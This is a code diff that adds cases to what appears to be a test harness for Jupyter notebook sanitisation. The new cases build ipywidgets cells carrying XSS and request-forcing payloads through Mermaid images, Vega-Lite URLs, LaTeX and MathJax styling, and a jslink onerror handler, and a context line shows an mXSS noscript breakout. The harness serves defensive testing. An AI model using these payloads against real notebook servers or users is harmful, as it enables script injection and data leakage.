@@ -297,6 +297,30 @@ attack("widget-output-raw-contentvisibility", "widget", "file", widget=True)(lam
     IMPORTS + "import ipywidgets\nout = ipywidgets.Output()\ndisplay(out)\n"
     f"out.append_display_data(HTML({visible(js)!r}))"))
 
+def _output_widget(bundle: dict, metadata: dict | None = None) -> str:
+    """A cell that puts ``bundle`` into an ``Output`` widget's ``outputs`` state (rendered by the
+    page's rendermime, not by the display path)."""
+    output = {"output_type": "display_data", "data": bundle, "metadata": metadata or {}}
+    return f"import ipywidgets\nout = ipywidgets.Output()\nout.outputs = ({output!r},)\nout"
+
+
+attack("widget-output-mermaid-img", "widget", "request", widget=True)(lambda js, url: _output_widget(mermaid(
+    f'flowchart LR\n  A@{{ img: "{url}", label: "a", pos: "t", w: 30, h: 30, constraint: "off" }}\n  A --> B\n')))
+attack("widget-output-vega-url", "widget", "request", widget=True)(lambda js, url: _output_widget(
+    {VEGA_LITE: _vl_image(url), "text/plain": "chart"}))
+attack("widget-output-vega-metadata", "widget", "request", widget=True)(lambda js, url: _output_widget(
+    {VEGA_LITE: vl_bar(), "text/plain": "chart"}, {VEGA_LITE: {"embed_options": {"config": url}}}))
+attack("widget-output-latex-style", "widget", "request", widget=True)(lambda js, url: _output_widget(
+    {"text/latex": f"$${_cursor(url)}$$", "text/plain": "X"}))
+attack("widget-output-math-process-class", "maths", "request", widget=True)(lambda js, url: _output_widget(
+    {"text/html": f'<code class="mathjax_process">${_cursor(url)}$</code>', "text/plain": "X"}))
+attack("widget-jslink-text-to-html", "widget", "file", widget=True)(lambda js, url: (
+    "import ipywidgets\n"
+    f"source = ipywidgets.Text(value={onerror(js)!r})\n"
+    "target = ipywidgets.HTML(value='linked')\n"
+    "link = ipywidgets.jslink((source, 'value'), (target, 'value'))\n"
+    "target"))
+
 # -- public XSS / mXSS research: parser differentials, namespaces, SMIL, legacy fetches ----
 attack("mxss-noscript-attribute", "research", "file")(lambda js, url: show(
     "HTML", f'<noscript><p title="</noscript><img src=x {bare(js)}>"></p></noscript>'))
